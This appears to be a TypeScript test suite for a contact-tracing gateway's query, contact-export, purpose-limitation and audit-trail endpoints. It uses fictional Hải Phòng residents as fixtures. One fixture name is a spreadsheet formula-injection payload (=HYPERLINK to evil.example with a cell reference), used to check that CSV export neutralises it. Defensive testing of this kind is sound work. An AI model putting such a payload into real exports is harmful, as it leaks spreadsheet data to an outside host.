import assert from 'node:assert/strict';
import { goldenNative } from '../support/mapping';
import { describeOnEveryStore } from '../support/stores';
import { TestGateway } from '../support/test-gateway';

/**
 * Hải Phòng's notice of March 2021: "everyone at the Pari hotel, 2/8A Lê Hồng Phong, Ngô Quyền, on
 * 23-25/3, or on flight VJ458 on 22/3, contact the health authorities". The tracer asks two days later.
 */
const NOW = new Date('2021-03-27T12:00:00+07:00');
const QUERIES = '/v1/tracing/queries';
const CONTACTS = '/v1/tracing/queries/{queryId}/contacts';
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

interface Person {
  citizenId: string;
  qr: string;
  cccd: string;
}

describeOnEveryStore('contact tracing', (store) => {
  let gw: TestGateway;
  let hotel: { venueId: string; qr: string };
  let floor5: { venueId: string; qr: string };
  let flight: { venueId: string; qr: string };
  let market: { venueId: string; qr: string };
  let hung: Person;
  let hostile: Person;
  let lan: Person;
  let binh: Person;
  let mai: Person;

  const tracer = () => gw.token(['tracing', 'tracing:contact'], 'cdc-haiphong');
  const supervisor = () => gw.token(['tracing:approve'], 'cdc-haiphong-supervisor');
  const register = async (body: object) => (await gw.call('POST', '/v1/venues', { body, token: gw.token(['venues:write']) })).body;
  const checkin = async (body: object) => {
    const res = await gw.call('POST', '/v1/checkins', { body, token: gw.token(['checkins:write']) });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    return res.body.stay;
  };
  const person = async (name: string, cccd: string, phone: string, n: number): Promise<Person> => {
    const native = goldenNative('tokhaiyte', '01');
    Object.assign(native, { ma_to_khai: `TK2103250000${n}`, ho_ten: name, so_giay_to: cccd, dien_thoai: phone });
    Object.assign(native, { thoi_gian_khai_bao: '25/03/2021 08:00', nam_sinh: 1900 + Number(cccd.slice(4, 6)) });
    native.gioi_tinh = cccd[3] === '1' ? 'Nữ' : 'Nam';
    native.di_chuyen.ngay_di = '25/03/2021';
    const ingested = await gw.gateway.ingest.ingestNative('tokhaiyte', native);
    assert.ok(ingested.ok && ingested.citizen, JSON.stringify(ingested));
    return { ...ingested.citizen, cccd };
  };
  const byCccd = (p: Person) => ({ identifiers: [{ system: 'vn-cccd', value: p.cccd }] });
  const query = (body: object, token = tracer()) => gw.call('POST', QUERIES, { body, token });
  const NOTICE = {
    from: '2021-03-23T00:00:00+07:00',
    to: '2021-03-26 00:00',
    purpose: 'contact-tracing',
    caseRef: 'HP-2021-BN2557',
  };

  before(async () => {
    gw = await TestGateway.start(store.env, () => NOW);
    hotel = await register({
      name: 'Khách sạn Pari',
      kind: 'permanent',
      address: { province: '31', district: 'Ngô Quyền', line: '2/8A Lê Hồng Phong' },
      defaultStayMinutes: 720,
    });
    floor5 = await register({
      name: 'Tầng 5, Khách sạn Pari',
      kind: 'permanent',
      address: { province: 'Hải Phòng' },
      parentVenueId: hotel.venueId,
    });
    flight = await register({
      name: 'Chuyến bay VJ458',
      kind: 'transport',
      address: { province: 'Hải Phòng' },
      transport: { vehicle: 'plane', number: 'VJ458', date: '2021-03-22' },
      defaultStayMinutes: 150,
    });
    market = await register({ name: 'Chợ Sắt', kind: 'permanent', address: { province: 'Hải Phòng', district: 'Hồng Bàng' } });
    hung = await person('Phạm Văn Hùng', '031085001111', '0903 111 222', 1);
    hostile = await person(HOSTILE_NAME, '031090002222', '0904 222 333', 2);
    lan = await person('Nguyễn Thị Lan', '031192003333', '0905 333 444', 3);
    binh = await person('Trần Văn Bình', '031070004444', '0906 444 555', 4);
    mai = await person('Lê Thị Mai', '031188005555', '0907 555 666', 5);

    // Hùng: the hotel's desk scans his QR on the 23rd; his app checks out with the hotel's code on the 24th.
    await checkin({ venue: hotel.venueId, direction: 'in', at: '2021-03-23T14:00:00+07:00', subject: hung.qr, mode: 'staff-scan' });
    await checkin({ venue: hotel.qr, direction: 'out', at: '2021-03-24T10:30:00+07:00', subject: byCccd(hung), mode: 'self-scan' });
    // The hostile name checks in on the 25th and never checks out: the hotel's 12-hour default ends the stay (auto).
    await checkin({ venue: hotel.qr, direction: 'in', at: '2021-03-25T20:00:00+07:00', subject: byCccd(hostile), mode: 'self-scan' });
    // Bình left at midnight, exactly when the window starts: not a contact.
    await checkin({ venue: hotel.venueId, direction: 'in', at: '2021-03-22T21:00:00+07:00', subject: binh.qr, mode: 'staff-scan' });
    await checkin({ venue: hotel.venueId, direction: 'out', at: '2021-03-23T00:00:00+07:00', subject: binh.qr, mode: 'staff-scan' });
    // Mai stayed on the fifth floor (a child of the hotel), checked in by the floor's device.
    await checkin({ venue: floor5.venueId, direction: 'in', at: '2021-03-24T09:00:00+07:00', subject: mai.qr, mode: 'staff-scan' });
    await checkin({ venue: floor5.venueId, direction: 'out', at: '2021-03-24T09:45:00+07:00', subject: mai.qr, mode: 'staff-scan' });
    // A guest the gateway knows by nothing: stored unlinked.
    const stranger = { fullName: 'Đỗ Văn Khách', identifiers: [{ system: 'phone', value: '0988 777 888' }] };
    await checkin({ venue: hotel.venueId, direction: 'in', at: '2021-03-24T12:00:00+07:00', subject: stranger, mode: 'self-scan' });
    // Lan boarded VJ458 on the 22nd (the crew scanned her), then went to the market on the 24th.
    await checkin({ venue: flight.venueId, direction: 'in', at: '2021-03-22T06:10:00+07:00', subject: lan.qr, mode: 'staff-scan' });
    await checkin({ venue: market.qr, direction: 'in', at: '2021-03-24T08:00:00+07:00', subject: byCccd(lan), mode: 'self-scan' });
  });
  after(() => gw?.stop());

  it('finds everyone at the Pari hotel on 23-25/3, its fifth floor included, with how long each overlapped, and no names', async () => {
    const res = await query({ venues: [hotel.venueId], ...NOTICE });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    assert.match(res.body.queryId, /^trq_[0-9A-Za-z_-]{22}$/);
    assert.deepEqual(
      res.body.stays.map((s: any) => [s.citizenId, s.venueId, s.in, s.out, s.outSource, s.overlapMinutes]),
      [
        [hung.citizenId, hotel.venueId, '2021-03-23T14:00:00+07:00', '2021-03-24T10:30:00+07:00', 'manual', 1230],
        [mai.citizenId, floor5.venueId, '2021-03-24T09:00:00+07:00', '2021-03-24T09:45:00+07:00', 'manual', 45],
        [null, hotel.venueId, '2021-03-24T12:00:00+07:00', '2021-03-25T00:00:00+07:00', 'auto', 720],
        [hostile.citizenId, hotel.venueId, '2021-03-25T20:00:00+07:00', '2021-03-26T08:00:00+07:00', 'auto', 240],
      ],
    );
    assert.equal(res.body.citizens, 3);
    assert.ok(!res.text.includes('Phạm Văn Hùng') && !res.text.includes('+84') && !res.text.includes('HYPERLINK'));
  });

  it('leaves out a stay that ended exactly when the window starts', async () => {
    const res = await query({ venues: [hotel.venueId], ...NOTICE });
    assert.ok(!res.body.stays.some((s: any) => s.citizenId === binh.citizenId));
    const before = await query({ venues: [hotel.venueId], ...NOTICE, from: '2021-03-22T23:59:00+07:00' });
    assert.deepEqual(
      before.body.stays.filter((s: any) => s.citizenId === binh.citizenId).map((s: any) => s.overlapMinutes),
      [1],
    );
  });

  it('leaves the fifth floor out when includeChildVenues is false, and short stays out past minOverlapMinutes', async () => {
    const hotelOnly = await query({ venues: [hotel.venueId], ...NOTICE, includeChildVenues: false });
    assert.ok(!hotelOnly.body.stays.some((s: any) => s.venueId === floor5.venueId));
    const long = await query({ venues: [hotel.venueId], ...NOTICE, minOverlapMinutes: 60 });
    assert.deepEqual(
      long.body.stays.map((s: any) => s.overlapMinutes),
      [1230, 720, 240],
    );
  });

  it('asks several venues at once: the hotel on 23-25/3 and flight VJ458 on 22/3 (a window over both)', async () => {
    const res = await query({ venues: [hotel.venueId, flight.venueId], ...NOTICE, from: '2021-03-22T00:00:00+07:00' });
    const lanOnFlight = res.body.stays.find((s: any) => s.citizenId === lan.citizenId);
    assert.deepEqual(
      [lanOnFlight.venueId, lanOnFlight.in, lanOnFlight.out, lanOnFlight.outSource, lanOnFlight.overlapMinutes],
      [flight.venueId, '2021-03-22T06:10:00+07:00', '2021-03-22T08:40:00+07:00', 'auto', 150],
    );
    assert.ok(!res.body.stays.some((s: any) => s.venueId === market.venueId));
    assert.equal(res.body.citizens, 5, 'Hùng, Mai, the hostile name, Bình (before midnight) and Lan');
  });

  it("gives the query's caller the names and phones as JSON, for that query's citizens only", async () => {
    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE })).body;
    const res = await gw.call('GET', `${QUERIES}/${queryId}/contacts`, { route: CONTACTS, token: tracer() });
    assert.equal(res.status, 200);
    assert.equal(res.body.caseRef, 'HP-2021-BN2557');
    const contacts = Object.fromEntries(res.body.contacts.map((c: any) => [c.citizenId, [c.fullName, c.phones]]));
    assert.deepEqual(contacts, {
      [hung.citizenId]: ['Phạm Văn Hùng', ['+84903111222']],
      [mai.citizenId]: ['Lê Thị Mai', ['+84907555666']],
      [hostile.citizenId]: [HOSTILE_NAME, ['+84904222333']],
    });
  });

  it('gives them as CSV with Accept: text/csv, where no cell can run as a formula and a phone stays dialable', async () => {
    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE })).body;
    const res = await gw.call('GET', `${QUERIES}/${queryId}/contacts`, {
      route: CONTACTS,
      token: tracer(),
      headers: { accept: 'text/csv' },
    });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    const lines = res.text.replace(/^\uFEFF/, '').split('\r\n');
    assert.equal(lines[0], '"citizenId","fullName","phones"');
    assert.ok(lines.includes(`"${hung.citizenId}","Phạm Văn Hùng","tel:+84903111222"`));
    // The formula is text: a quote first, its own quotes doubled (RFC 4180).
    assert.ok(lines.includes(`"${hostile.citizenId}","'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")","tel:+84904222333"`));
    for (const line of lines.slice(1, -1)) for (const cell of line.split('","')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@]/);
    assert.equal(lines.at(-1), '', 'every line ends with CRLF');
  });

  it('answers 406 to a caller who accepts neither JSON nor CSV (text/csv;q=0 alone), and records no read', async () => {
    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE })).body;
    const before = (await gw.call('GET', '/v1/tracing/audit', { token: supervisor() })).body.entries.length;
    const res = await gw.call('GET', `${QUERIES}/${queryId}/contacts`, {
      route: CONTACTS,
      token: tracer(),
      headers: { accept: 'text/csv;q=0' },
    });
    assert.equal(res.status, 406);
    assert.equal(res.body.type.endsWith('/not-acceptable'), true);
    assert.equal((await gw.call('GET', '/v1/tracing/audit', { token: supervisor() })).body.entries.length, before);
  });

  it('answers 404 to a caller other than the one who asked, and to an unknown query', async () => {
    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE })).body;
    const colleague = gw.token(['tracing', 'tracing:contact'], 'cdc-hanoi');
    assert.equal((await gw.call('GET', `${QUERIES}/${queryId}/contacts`, { route: CONTACTS, token: colleague })).status, 404);
    const unknown = `${QUERIES}/trq_AAAAAAAAAAAAAAAAAAAAAA/contacts`;
    assert.equal((await gw.call('GET', unknown, { route: CONTACTS, token: tracer() })).status, 404);
  });

  it('refuses any other purpose, such as law enforcement, with 422 at /purpose', async () => {
    const res = await query({ venues: [hotel.venueId], ...NOTICE, purpose: 'law-enforcement' });
    assert.equal(res.status, 422);
    assert.deepEqual(
      res.body.errors.map((e: any) => e.pointer),
      ['/purpose'],
    );
  });

  it('refuses with every reason and its pointer: an unknown venue, a window backwards or over 31 days, no case reference', async () => {
    const reasons = async (body: object) => {
      const res = await query({ venues: [hotel.venueId], ...NOTICE, ...body });
      assert.equal(res.status, 422, JSON.stringify(res.body));
      return res.body.errors.map((e: any) => [e.pointer, e.code]);
    };
    assert.deepEqual(await reasons({ venues: [hotel.venueId, 'ven_AAAAAAAAAAAAAAAAAAAAAA'] }), [['/venues/1', 'unknown-venue']]);
    assert.deepEqual(await reasons({ to: '2021-03-22T00:00:00+07:00' }), [['/to', 'invalid-window']]);
    // Stays are kept 21 days after they end: a window before that is not answered "nobody", but refused.
    assert.deepEqual(await reasons({ from: '2021-03-01T00:00:00+07:00', to: '2021-03-10T00:00:00+07:00' }), [['/from', 'past-retention']]);
    // Over 31 days, and so (stays are kept 21 days) starting before the stays the gateway still holds.
    assert.deepEqual(await reasons({ from: '2021-02-20T00:00:00+07:00' }), [
      ['/to', 'window-too-long'],
      ['/from', 'past-retention'],
    ]);
    assert.deepEqual(await reasons({ caseRef: '' }), [['/caseRef', 'bad-format']]);
    // A body the schema refuses is still told what its window says, where the window has its shape.
    assert.deepEqual(await reasons({ venues: [], to: '2021-03-22T00:00:00+07:00' }), [
      ['/venues', 'bad-format'],
      ['/to', 'invalid-window'],
    ]);
  });

  it('needs the tracing scope to query and tracing:contact to read contacts (403 otherwise)', async () => {
    const checkinOnly = gw.token(['checkins:write', 'venues:read']);
    assert.equal((await query({ venues: [hotel.venueId], ...NOTICE }, checkinOnly)).status, 403);
    const tracingOnly = gw.token(['tracing'], 'cdc-haiphong');
    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE }, tracingOnly)).body;
    assert.equal((await gw.call('GET', `${QUERIES}/${queryId}/contacts`, { route: CONTACTS, token: tracingOnly })).status, 403);
  });

  it("reaches every entry of tracing's trail a page at a time, however many other entries a partner piles on top of it", async () => {
    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE })).body;
    // A partner with citizens:read reads Hùng's stays 600 times: each read is an entry of the trail.
    const partner = gw.token(['citizens:read'], 'some-partner');
    for (let i = 0; i < 600; i += 1)
      await gw.call('GET', `/v1/citizens/${hung.citizenId}/stays`, { route: '/v1/citizens/{citizenId}/stays', token: partner });
    const newest = (await gw.call('GET', '/v1/tracing/audit', { token: supervisor() })).body;
    assert.equal(newest.entries.length, 500);
    assert.ok(!newest.entries.some((e: { queryId?: string }) => e.queryId === queryId));
    const older = await gw.call('GET', `/v1/tracing/audit?before=${newest.next}`, { route: '/v1/tracing/audit', token: supervisor() });
    assert.ok(older.body.entries.some((e: { action: string; queryId?: string }) => e.action === 'tracing-query' && e.queryId === queryId));
    const refused = await gw.call('GET', '/v1/tracing/audit?before=cit_x', { route: '/v1/tracing/audit', token: supervisor() });
    assert.deepEqual([refused.status, refused.body.errors[0].pointer], [400, '/before']);
  });

  it("records every tracing call in tracing's audit trail: who, why, the case and how many citizens, never a name or a phone", async () => {
    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE })).body;
    await gw.call('GET', `${QUERIES}/${queryId}/contacts`, { route: CONTACTS, token: tracer() });
    await gw.call('GET', `${QUERIES}/${queryId}/contacts`, { route: CONTACTS, token: gw.token(['tracing:contact'], 'cdc-hanoi') });
    await query({ venues: [hotel.venueId], ...NOTICE, purpose: 'law-enforcement' }, gw.token(['tracing'], 'cong-an'));
    const audit = await gw.call('GET', '/v1/tracing/audit', { token: gw.token(['tracing:approve'], 'cdc-haiphong-supervisor') });
    assert.equal(audit.status, 200);
    const [refused, colleague, read, asked] = audit.body.entries.slice(0, 4).map(({ at: _at, requestId: _id, ...rest }: any) => rest);
    assert.deepEqual(asked, {
      actor: 'cdc-haiphong',
      action: 'tracing-query',
      purpose: 'contact-tracing',
      caseRef: 'HP-2021-BN2557',
      queryId,
      citizens: 3,
      venues: [hotel.venueId],
      from: '2021-03-23T00:00:00+07:00',
      to: '2021-03-26T00:00:00+07:00',
    });
    assert.deepEqual(read, { ...asked, action: 'tracing-contacts' });
    assert.deepEqual(colleague, { ...asked, actor: 'cdc-hanoi', action: 'tracing-contacts-refused', citizens: 0 });
    assert.deepEqual(refused, {
      actor: 'cong-an',
      action: 'tracing-query-refused',
      purpose: 'law-enforcement',
      caseRef: 'HP-2021-BN2557',
      // A refused query's venues and window as stated.
      venues: [hotel.venueId],
      from: NOTICE.from,
      to: NOTICE.to,
      citizens: 0,
    });
    assert.ok(!audit.text.includes('Phạm') && !audit.text.includes('+849') && !audit.text.includes('HYPERLINK'));
    // The platforms' operators keep their own log; case files are not theirs to read.
    const operators = await gw.call('GET', '/v1/audit', { token: gw.token(['operator']) });
    assert.ok(!operators.text.includes('HP-2021-BN2557'));
    assert.equal((await gw.call('GET', '/v1/tracing/audit', { token: gw.token(['operator', 'tracing']) })).status, 403);
  });

  it('counts queries by purpose and result, with no venue or person in a label', async () => {
    const metrics = await gw.gateway.metrics.render();
    assert.match(metrics, /vnhc_tracing_queries_total\{purpose="contact-tracing",result="answered"\} [1-9]/);
    assert.match(metrics, /vnhc_tracing_queries_total\{purpose="other",result="refused"\} [1-9]/);
    assert.match(metrics, /vnhc_tracing_contact_reads_total\{result="not-found"\} [1-9]/);
    assert.ok(!metrics.includes(hotel.venueId) && !metrics.includes('HP-2021'));
  });
});
